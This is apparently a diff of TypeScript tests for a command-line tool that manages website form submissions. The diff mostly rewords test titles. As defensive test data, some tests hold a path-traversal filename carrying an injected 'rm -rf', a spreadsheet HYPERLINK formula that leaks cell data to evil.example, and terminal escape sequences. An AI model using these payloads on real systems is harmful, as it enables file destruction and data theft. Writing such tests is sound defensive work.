@@ -26,7 +26,7 @@ import { showSubmission } from "./submissions/show.ts";
 
 const days = ["2026-11-19", "2026-11-20", "2026-11-21"].map((day) => new Date(`${day}T23:59:59.999Z`));
 
-testOnEach("the newest are listed first, in a table", async (database) => {
+testOnEach("a table lists the newest submissions first", async (database) => {
   await storeSample(database, {}, days[0]);
   const stored = {
     kind: "application",
@@ -45,7 +45,7 @@ testOnEach("the newest are listed first, in a table", async (database) => {
   expect(others).toEqual([""]);
 });
 
-testOnEach("a list is narrowed by kind, address and days, both days among them", async (database) => {
+testOnEach("a list is filtered by kind, address and days, both days included", async (database) => {
   const [old, middle, young] = [
     await storeSample(database, { kind: "order", data: order }, days[0]),
     await storeSample(database, { email: "Ming@Example.com", kind: "survey", data: survey }, days[1]),
@@ -64,7 +64,7 @@ testOnEach("a list is narrowed by kind, address and days, both days among them",
   await expect(list(database, { filter: { kind: "quote" } })).rejects.toMatchObject({ exit: "nothing" });
 });
 
-testOnEach("a list that is cut says how many there are", async (database) => {
+testOnEach("a shortened list says how many submissions there are", async (database) => {
   for (const day of days) await storeSample(database, {}, day);
   const { out, err } = await list(database, { limit: 2 });
   expect(out.trim().split("\n")).toHaveLength(3);
@@ -72,7 +72,7 @@ testOnEach("a list that is cut says how many there are", async (database) => {
   expect((await list(database, { limit: 3 })).err).toBe("");
 });
 
-testOnEach("a table fits the terminal, and is whole in a pipe", async (database) => {
+testOnEach("a table fits the terminal, and is complete in a pipe", async (database) => {
   const company = "A company with a name that has no end ".repeat(4).trim();
   await storeSample(database, { data: { ...contact, company } });
   const lines = (await list(database, { columns: 100 })).out.trim().split("\n");
@@ -81,7 +81,7 @@ testOnEach("a table fits the terminal, and is whole in a pipe", async (database)
   expect((await list(database)).out).toContain(company);
 });
 
-testOnEach("what a visitor typed moves no cursor and hides nothing", async (database) => {
+testOnEach("text typed by a visitor cannot move the cursor or hide output", async (database) => {
   const name = "\u001B]0;title\u0007Ana\u009B31m\u202Egpj.exe";
   const reference = await storeSample(database, { data: { ...contact, name, message: `a\r\nb${name}` } });
   const told = [
@@ -93,49 +93,46 @@ testOnEach("what a visitor typed moves no cursor and hides nothing", async (data
   expect((JSON.parse(told[1]?.out ?? "") as { name: string }[])[0]?.name).toBe(name);
 });
 
-testOnEach(
-  "everything of a submission is shown: fields, files, letters and what became of them",
-  async (database) => {
-    await addUpload(database, "file-1", "route survey.pdf");
-    const data = { ...survey, notes: "Gate 3.\nAsk for the shift leader." };
-    const reference = await storeSample(database, {
-      kind: "survey",
-      subject: "cargo",
-      data,
-      files: ["file-1"],
-    });
-    const { out } = await show(database, { reference: ` ${reference.toLowerCase()}` });
-    expect(out).toMatch(new RegExp(`^${reference}\nkind +survey\n`));
-    expect(out).toMatch(
-      /^slots +date 2026-12-02, from 09:00, to 12:00; date 2026-12-03, from 14:00, to 16:00$/m,
-    );
-    expect(out).toMatch(/^time zone +Europe\/Madrid$/m);
-    expect(out).toMatch(/^notes +Gate 3\.\n {9,}Ask for the shift leader\.$/m);
-    expect(out).toMatch(
-      /^Files\nroute survey\.pdf {2}pdf {2}2 kB\nAnyone with the link can open these until [\d: -]{16} UTC:\nhttps:\/\/site\.example\/file-1\?\d+$/m,
-    );
-    expect(out).toContain("Letters\nana@example.com  Your message  waiting\n");
+testOnEach("a submission is shown with its fields, files, letters and their state", async (database) => {
+  await addUpload(database, "file-1", "route survey.pdf");
+  const data = { ...survey, notes: "Gate 3.\nAsk for the shift leader." };
+  const reference = await storeSample(database, {
+    kind: "survey",
+    subject: "cargo",
+    data,
+    files: ["file-1"],
+  });
+  const { out } = await show(database, { reference: ` ${reference.toLowerCase()}` });
+  expect(out).toMatch(new RegExp(`^${reference}\nkind +survey\n`));
+  expect(out).toMatch(
+    /^slots +date 2026-12-02, from 09:00, to 12:00; date 2026-12-03, from 14:00, to 16:00$/m,
+  );
+  expect(out).toMatch(/^time zone +Europe\/Madrid$/m);
+  expect(out).toMatch(/^notes +Gate 3\.\n {9,}Ask for the shift leader\.$/m);
+  expect(out).toMatch(
+    /^Files\nroute survey\.pdf {2}pdf {2}2 kB\nAnyone with the link can open these until [\d: -]{16} UTC:\nhttps:\/\/site\.example\/file-1\?\d+$/m,
+  );
+  expect(out).toContain("Letters\nana@example.com  Your message  waiting\n");
 
-    await database.updateTable("outbox").set({ attempts: 2, last_error: "550 no such user" }).execute();
-    expect((await show(database, { reference })).out).toContain(
-      "not sent after 2 attempts, next 2026-11-21 12:00: 550 no such user",
-    );
-    await database.updateTable("outbox").set({ attempts: 1, send_after: givenUpDate }).execute();
-    expect((await show(database, { reference })).out).toContain(
-      "not sent after 1 attempt, given up: 550 no such user",
-    );
-    await database.updateTable("outbox").set({ sent_at: "2026-11-21T12:05:00.000Z" }).execute();
-    expect((await show(database, { reference })).out).toContain("sent 2026-11-21 12:05");
-    expect(JSON.parse((await show(database, { reference, json: true })).out)).toMatchObject({
-      reference,
-      data,
-      files: [{ id: "file-1", name: "route survey.pdf", size: 2048 }],
-      letters: [{ to: ["ana@example.com"], state: "sent 2026-11-21 12:05" }],
-    });
-  },
-);
+  await database.updateTable("outbox").set({ attempts: 2, last_error: "550 no such user" }).execute();
+  expect((await show(database, { reference })).out).toContain(
+    "not sent after 2 attempts, next 2026-11-21 12:00: 550 no such user",
+  );
+  await database.updateTable("outbox").set({ attempts: 1, send_after: givenUpDate }).execute();
+  expect((await show(database, { reference })).out).toContain(
+    "not sent after 1 attempt, given up: 550 no such user",
+  );
+  await database.updateTable("outbox").set({ sent_at: "2026-11-21T12:05:00.000Z" }).execute();
+  expect((await show(database, { reference })).out).toContain("sent 2026-11-21 12:05");
+  expect(JSON.parse((await show(database, { reference, json: true })).out)).toMatchObject({
+    reference,
+    data,
+    files: [{ id: "file-1", name: "route survey.pdf", size: 2048 }],
+    letters: [{ to: ["ana@example.com"], state: "sent 2026-11-21 12:05" }],
+  });
+});
 
-testOnEach("what stood in a field as typed is shown beside what was understood", async (database) => {
+testOnEach("a field's typed text is shown next to its value", async (database) => {
   const typed = { phone: "0034 600.000.000", "pieces.0.length": "12,5" };
   const reference = await storeSample(database, { data: { ...contact, typed } });
   const { out } = await show(database, { reference });
@@ -146,35 +143,32 @@ testOnEach("what stood in a field as typed is shown beside what was understood",
   expect((await show(database, { reference: await storeSample(database) })).out).not.toContain("As typed");
 });
 
-testOnEach("a reference that nobody has is not found", async (database) => {
+testOnEach("an unknown reference is not found", async (database) => {
   await expect(show(database, { reference: "CT-2222-2222" })).rejects.toMatchObject({
     exit: "nothing",
     message: "CT-2222-2222: there is no such submission",
   });
 });
 
-testOnEach(
-  "files are saved under harmless names, for their reader alone, over no other",
-  async (database) => {
-    await addUpload(database, "file-1", "../../etc/passwd; rm -rf .pdf", "cv");
-    await addUpload(database, "file-2", "履歴書.pdf", "cv");
-    const files = ["file-1", "file-2"];
-    const reference = await storeSample(database, { kind: "application", data: application, files });
-    const folder = join(temporaryFolder(), "new", "folder");
-    const { err } = await show(database, { reference, folder });
-    const names = [`${reference}-1-..-..-etc-passwd-rm--rf-.pdf`, `${reference}-2-履歴書.pdf`];
-    expect(readdirSync(folder).toSorted()).toEqual(names);
-    expect(err).toBe(names.map((name) => `Saved ${join(folder, name)}\n`).join(""));
-    expect(readFileSync(join(folder, names[1] ?? ""), "utf8")).toBe("content of file-2");
-    expect(statSync(join(folder, names[0] ?? "")).mode & 0o777).toBe(0o600);
+testOnEach("files are saved under safe names, private to the user, without overwriting", async (database) => {
+  await addUpload(database, "file-1", "../../etc/passwd; rm -rf .pdf", "cv");
+  await addUpload(database, "file-2", "履歴書.pdf", "cv");
+  const files = ["file-1", "file-2"];
+  const reference = await storeSample(database, { kind: "application", data: application, files });
+  const folder = join(temporaryFolder(), "new", "folder");
+  const { err } = await show(database, { reference, folder });
+  const names = [`${reference}-1-..-..-etc-passwd-rm--rf-.pdf`, `${reference}-2-履歴書.pdf`];
+  expect(readdirSync(folder).toSorted()).toEqual(names);
+  expect(err).toBe(names.map((name) => `Saved ${join(folder, name)}\n`).join(""));
+  expect(readFileSync(join(folder, names[1] ?? ""), "utf8")).toBe("content of file-2");
+  expect(statSync(join(folder, names[0] ?? "")).mode & 0o777).toBe(0o600);
 
-    writeFileSync(join(folder, names[0] ?? ""), "mine");
-    await expect(show(database, { reference, folder })).rejects.toThrow("exists already");
-    expect(readFileSync(join(folder, names[0] ?? ""), "utf8")).toBe("mine");
-  },
-);
+  writeFileSync(join(folder, names[0] ?? ""), "mine");
+  await expect(show(database, { reference, folder })).rejects.toThrow("exists already");
+  expect(readFileSync(join(folder, names[0] ?? ""), "utf8")).toBe("mine");
+});
 
-testOnEach("a file that breaks off while it is read leaves nothing", async (database) => {
+testOnEach("a file whose download is interrupted leaves nothing", async (database) => {
   await addUpload(database, "file-1");
   const reference = await storeSample(database, { files: ["file-1"] });
   const folder = temporaryFolder();
@@ -192,7 +186,7 @@ testOnEach("a file that breaks off while it is read leaves nothing", async (data
   expect(readdirSync(folder)).toEqual([]);
 });
 
-testOnEach("pages hold every row once, also where many came at the same moment", async (database) => {
+testOnEach("pages contain every row once, even with equal times", async (database) => {
   const rows = Array.from({ length: 1234 }, (_, index) => rowOf(index, index % 3 === 0 ? days[0] : days[1]));
   for (let from = 0; from < rows.length; from += 500) {
     await database
@@ -218,7 +212,7 @@ testOnEach("pages hold every row once, also where many came at the same moment",
 });
 
 testOnEach(
-  "CSV has a row for each, a column for each field, and quotes as RFC 4180 asks",
+  "CSV has a row per submission, a column per field, and quotes as in RFC 4180",
   async (database) => {
     await storeSample(database, { data: { ...contact, message: 'A "tank",\nor two' } }, days[1]);
     await storeSample(database, { kind: "quote", data: quote }, days[0]);
@@ -239,7 +233,7 @@ testOnEach(
   },
 );
 
-testOnEach("a spreadsheet calculates nothing that a visitor typed", async (database) => {
+testOnEach("a spreadsheet computes nothing that a visitor typed", async (database) => {
   const formulas = ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"];
   for (const name of formulas) await storeSample(database, { data: { ...contact, name } });
   const [head = [], ...rows] = parseCsv((await exported(database, "csv")).toString());
@@ -254,7 +248,7 @@ testOnEach("a spreadsheet calculates nothing that a visitor typed", async (datab
   expect(sheet + strings).toContain("=HYPERLINK(");
 });
 
-testOnEach("JSON holds everything as it was typed", async (database) => {
+testOnEach("JSON contains everything as typed", async (database) => {
   const reference = await storeSample(database, { kind: "survey", email: survey.email, data: survey });
   for (let count = 0; count < 2; count += 1) await storeSample(database, {}, days[0]);
   const all = JSON.parse((await exported(database, "json")).toString()) as {
@@ -266,7 +260,7 @@ testOnEach("JSON holds everything as it was typed", async (database) => {
 });
 
 testOnEach(
-  "an export is for its reader alone, named by what it holds, over no other file",
+  "an export is private to the user, named after its contents, and overwrites no file",
   async (database) => {
     await storeSample(database);
     const file = join(temporaryFolder(), "all.csv");
@@ -287,7 +281,7 @@ testOnEach(
 );
 
 testOnEach(
-  "what comes while an export runs is left for the next time, whatever its filter",
+  "submissions that arrive during an export are left for the next one, whatever the filter",
   async (database) => {
     await storeSample(database, {}, new Date("2100-01-01T00:00:00Z"));
     const file = join(temporaryFolder(), "all.csv");
@@ -300,7 +294,7 @@ testOnEach(
   },
 );
 
-testOnEach("on a terminal an export shows how far it is", async (database) => {
+testOnEach("on a terminal an export shows its progress", async (database) => {
   await storeSample(database);
   const { terminal, err } = recordedTerminal({ columns: 80 });
   const file = join(temporaryFolder(), "all.json");
@@ -308,7 +302,7 @@ testOnEach("on a terminal an export shows how far it is", async (database) => {
   expect(err()).toContain("of 1");
 });
 
-testOnEach("an address is forgotten with its letters and files, and nothing of others", async (database) => {
+testOnEach("forgetting an address deletes its letters and files, and nobody else's", async (database) => {
   await addUpload(database, "file-1");
   await addUpload(database, "file-2");
   await storeSample(database, { files: ["file-1"] });
@@ -325,7 +319,7 @@ testOnEach("an address is forgotten with its letters and files, and nothing of o
   });
 });
 
-testOnEach("one submission is forgotten by its reference", async (database) => {
+testOnEach("forgetting a reference deletes that submission only", async (database) => {
   const [gone, stays] = [await storeSample(database), await storeSample(database)];
   expect((await forget(database, { reference: gone.toLowerCase(), yes: true })).out).toBe(
     "Deleted 1 submission, 1 letter, no files.\n",
@@ -333,7 +327,7 @@ testOnEach("one submission is forgotten by its reference", async (database) => {
   expect(await referencesIn(database, "submissions")).toEqual([stays]);
 });
 
-testOnEach("nothing is forgotten without a yes", async (database) => {
+testOnEach("nothing is forgotten without confirmation", async (database) => {
   const reference = await storeSample(database);
   const refused = { exit: "nothing", message: expect.stringContaining("--yes") };
   for (const answer of [undefined, "", "\n", "no\n", "yeah\n"]) {
@@ -345,25 +339,28 @@ testOnEach("nothing is forgotten without a yes", async (database) => {
   expect(out).toBe("Deleted 1 submission, 1 letter, no files.\n");
 });
 
-testOnEach("forget wants a reference or an address, not both and not neither", async (database) => {
+testOnEach("forget needs either a reference or an address", async (database) => {
   const usage = { exit: "wrongUsage" };
   await expect(forget(database, { yes: true })).rejects.toMatchObject(usage);
   const both = { reference: "CT-1", email: "ana@example.com", yes: true };
   await expect(forget(database, both)).rejects.toMatchObject(usage);
 });
 
-testOnEach("the signing key is renewed after asking, so that earlier links end", async (database) => {
-  const signature = (await openSigner(database)).sign(["file"]);
-  const isSigned = async () => (await openSigner(database)).isSigned(["file"], signature);
-  await expect(
-    renewKey(database, { yes: false }, recordedTerminal({ answer: "n\n" }).terminal),
-  ).rejects.toMatchObject({ exit: "nothing" });
-  expect(await isSigned()).toBe(true);
-  const { terminal, out } = recordedTerminal();
-  await renewKey(database, { yes: true }, terminal);
-  expect(out()).toContain("Restart every copy of the site");
-  expect(await isSigned()).toBe(false);
-});
+testOnEach(
+  "the signing key is renewed after confirmation, which invalidates earlier links",
+  async (database) => {
+    const signature = (await openSigner(database)).sign(["file"]);
+    const isSigned = async () => (await openSigner(database)).isSigned(["file"], signature);
+    await expect(
+      renewKey(database, { yes: false }, recordedTerminal({ answer: "n\n" }).terminal),
+    ).rejects.toMatchObject({ exit: "nothing" });
+    expect(await isSigned()).toBe(true);
+    const { terminal, out } = recordedTerminal();
+    await renewKey(database, { yes: true }, terminal);
+    expect(out()).toContain("Restart every copy of the site");
+    expect(await isSigned()).toBe(false);
+  },
+);
 
 test("the programs themselves list, show, save, export, forget and retain", { timeout: 60_000 }, async () => {
   const dataDir = join(temporaryFolder(), "data");
@@ -421,7 +418,7 @@ test("the programs themselves list, show, save, export, forget and retain", { ti
   expect(existsSync(join(dataDir, "uploads", fileId))).toBe(false);
 });
 
-test("retention removes the files of what it deletes, and orphans", { timeout: 60_000 }, async () => {
+test("retention deletes the files of deleted submissions, and orphans", { timeout: 60_000 }, async () => {
   const dataDir = join(temporaryFolder(), "data");
   const [claimed, kept] = ["c".repeat(32), "k".repeat(32)];
   const database = await openDatabase({ dataDir });
@@ -439,25 +436,21 @@ test("retention removes the files of what it deletes, and orphans", { timeout: 6
   expect(readdirSync(join(dataDir, "uploads")).map((path) => basename(path))).toEqual([kept]);
 });
 
-test(
-  "beside a site whose -shm file was deleted no command opens the database",
-  { timeout: 60_000 },
-  async () => {
-    const dataDir = join(temporaryFolder(), "data");
-    const database = await openDatabase({ dataDir });
-    onTestFinished(() => database.destroy());
-    const shm = join(dataDir, "site.sqlite-shm");
-    expect(await spawnProgram(dataDir, "cli/submissions.ts", ["list"])).toMatchObject({ code: 3 });
-    rmSync(shm);
-    expect(await spawnProgram(dataDir, "cli/submissions.ts", ["list"])).toMatchObject({
-      code: 1,
-      err: expect.stringMatching(
-        new RegExp(`^process ${process.pid} has .*site.sqlite-shm was deleted: try again`),
-      ),
-    });
-    expect(existsSync(shm)).toBe(false);
-  },
-);
+test("no command opens the database of a site whose -shm file was deleted", { timeout: 60_000 }, async () => {
+  const dataDir = join(temporaryFolder(), "data");
+  const database = await openDatabase({ dataDir });
+  onTestFinished(() => database.destroy());
+  const shm = join(dataDir, "site.sqlite-shm");
+  expect(await spawnProgram(dataDir, "cli/submissions.ts", ["list"])).toMatchObject({ code: 3 });
+  rmSync(shm);
+  expect(await spawnProgram(dataDir, "cli/submissions.ts", ["list"])).toMatchObject({
+    code: 1,
+    err: expect.stringMatching(
+      new RegExp(`^process ${process.pid} has .*site.sqlite-shm was deleted: try again`),
+    ),
+  });
+  expect(existsSync(shm)).toBe(false);
+});
 
 test("migrate --check creates no database where there is none", async () => {
   const dataDir = join(temporaryFolder(), "data");
